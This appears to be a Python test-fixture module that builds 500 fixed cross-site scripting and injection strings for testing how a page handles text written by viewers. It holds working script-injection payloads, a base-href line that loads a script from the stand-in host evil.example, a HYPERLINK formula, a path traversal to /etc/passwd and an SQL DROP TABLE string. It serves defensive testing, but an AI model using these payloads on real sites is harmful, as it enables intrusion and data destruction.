"""Five hundred things that a viewer may write or be called to make a page run, break or lie. The same every time."""

from __future__ import annotations

import itertools
import random

MARK = "owned"
"""What a payload that runs puts into the page's title."""
_RUNS = f"document.title='{MARK}'"
_SHAPES = (
    "<script>{0}</script>",
    '<img src=x onerror="{0}">',
    '<svg/onload="{0}">',
    "<svg><script>{0}</script></svg>",
    '<body onload="{0}">',
    '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    '<details open ontoggle="{0}">x</details>',
    '<input autofocus onfocus="{0}">',
    '<a href="javascript:{0}">click</a>',
    '<math><mtext><img src=x onerror="{0}"></mtext></math>',
    "<style>@import 'javascript:{0}';</style>",
    "<template><script>{0}</script></template>",
    '<object data="javascript:{0}"></object>',
    '<marquee onstart="{0}">x</marquee>',
    '<video><source onerror="{0}"></video>',
    '<base href="https://evil.example/"><script src=x.js></script>',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<link rel=stylesheet href="javascript:{0}">',
    '"><script>{0}</script>',
    '\'><img src=x onerror="{0}">',
    "</p></li></ul><script>{0}</script>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "{{@html '<img src=x onerror={0}>'}}",
    "javascript:{0}//",
    "data:text/html,<script>{0}</script>",
    "-->{0}<!--",
    "]]><script>{0}</script>",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "__proto__",
    "constructor",
    '=HYPERLINK("https://evil.example","{0}")',
    "../../../../etc/passwd",
    "'; DROP TABLE lines; --",
    "\u202egnp.exe",
    "a\u0300\u0301\u0302\u0303\u0304 \u200b\u200d\ufeff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u0000 nul \u001b[31m esc",
    "x" * 480,
)
_WRAPS = (
    "{}",
    " {}",
    "hi {} there",
    "{}{}",
    "<b>{}",
    "{}</textarea>",
    "<!--{}",
    "@kit {}",
    '"{}',
    "`{}`",
    "{}\n{}",
    "é{}",
    "<noscript>{}",
    "{}?",
)


def payloads(count: int = 500) -> list[str]:
    """Each at most 500 characters, as a platform lets a viewer write."""
    chance = random.Random(4)
    all_of_them = [
        "".join(part for part in wrap.replace("{}", shape.format(_RUNS)))[:500]
        for shape, wrap in itertools.product(_SHAPES, _WRAPS)
    ]
    chance.shuffle(all_of_them)
    return list(dict.fromkeys(all_of_them))[:count]
